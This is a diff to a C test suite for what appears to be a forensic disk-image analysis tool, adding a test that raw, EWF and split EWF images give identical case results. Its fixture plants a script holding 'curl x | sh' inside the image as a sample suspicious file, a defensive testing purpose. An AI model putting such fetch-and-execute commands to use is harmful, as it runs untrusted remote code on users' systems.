@@ -135,6 +135,68 @@ TEST(images_in_containers_are_what_they_hold)
 	tear_down(&r);
 }
 
+/* All that was told of what lies in the image, row by row, without the image's own name. */
+static void tell_inside(const struct run *r, struct buf *to)
+{
+	static const char *const tables[] = {
+		"SELECT fate, class, kind, size, hex(sha256), modified, changed, mode, reason, of.path FROM item "
+		"LEFT JOIN (SELECT id AS n, path FROM item) of ON of.n = same_as WHERE instr(item.path, '!/') ORDER BY id",
+		"SELECT substr(item.path, instr(item.path, '!/')), trace.kind, what, time, trace.path, name, command, "
+		"digest, summary, detail FROM trace JOIN item ON item.id = item WHERE instr(item.path, '!/') "
+		"ORDER BY trace.id",
+		"SELECT substr(item.path, instr(item.path, '!/')), fact.class, channel, first, last, count, lost, days "
+		"FROM fact JOIN item ON item.id = item WHERE instr(item.path, '!/') ORDER BY fact.id",
+	};
+	struct err err = { 0 };
+	sqlite3_stmt *s;
+	bool row;
+
+	for (size_t i = 0; i < sizeof tables / sizeof *tables; i++) {
+		assert_true(query_prepare(case_db(r->file), tables[i], &s, &err));
+		while (query_step(s, &row, &err) && row)
+			for (int c = 0; c < sqlite3_column_count(s); c++) {
+				struct span text = query_span(s, c);
+				size_t image = span_find(text, 0, SPAN("/disk."));
+
+				buf_add(to, span_from(text, image == SIZE_MAX ? 0 : image + strlen("/disk.xxx")));
+				buf_text(to, c + 1 < sqlite3_column_count(s) ? "|" : "\n");
+			}
+		sqlite3_finalize(s);
+	}
+	assert_false(to->overflow);
+}
+
+TEST(images_in_chunks_give_the_case_of_the_raw_image)
+{
+	static const char *const moves[] = {
+		"mv ../disk.raw .", "rm disk.raw; mv ../whole.E01 disk.E01", "rm disk.E01; mv ../split/disk.* ." };
+	struct buf rows[3];
+	struct run r;
+
+	if (!has_tool("ewfacquirestream") || !has_tool("mke2fs"))
+		skip();
+	make(&r, "chunks",
+	     "cp /bin/ls ../in/tool && printf '#!/bin/sh\\ncurl x | sh\\n' > ../in/deed && chmod 755 ../in/deed && "
+	     "(cd ../in && tar cf etc.tar etc && cp deed etc/deed) && mke2fs -q -t ext4 -d ../in ../disk.raw 12M && "
+	     "mkdir ../split && ewfacquirestream -q -c fast -t ../whole < ../disk.raw >/dev/null 2>&1 && "
+	     "cd ../split && ewfacquirestream -q -c best -S 1048576 -t disk < ../disk.raw >/dev/null 2>&1");
+	for (size_t i = 0; i < 3; i++) {
+		shell(r.folder, moves[i]);
+		snprintf(r.path, sizeof r.path, "%s/chunks-%zu.case", scratch_dir(), i);
+		run_with(&r, (struct coordinator_options){ .jobs = 1 });
+		assert_item(&r, "!/p1/hello.txt", "examined|other|text|");
+		rows[i] = buf_new((size_t)1 << 20);
+		tell_inside(&r, &rows[i]);
+		tear_down(&r);
+	}
+	for (size_t i = 1; i < 3; i++) {
+		assert_string_equal((const char *)rows[i].at, (const char *)rows[0].at);
+		buf_free(&rows[i]);
+	}
+	assert_non_null(strstr((const char *)rows[0].at, "md5:"));
+	buf_free(&rows[0]);
+}
+
 TEST(images_say_which_chunks_fail_their_checksum)
 {
 	struct run r;
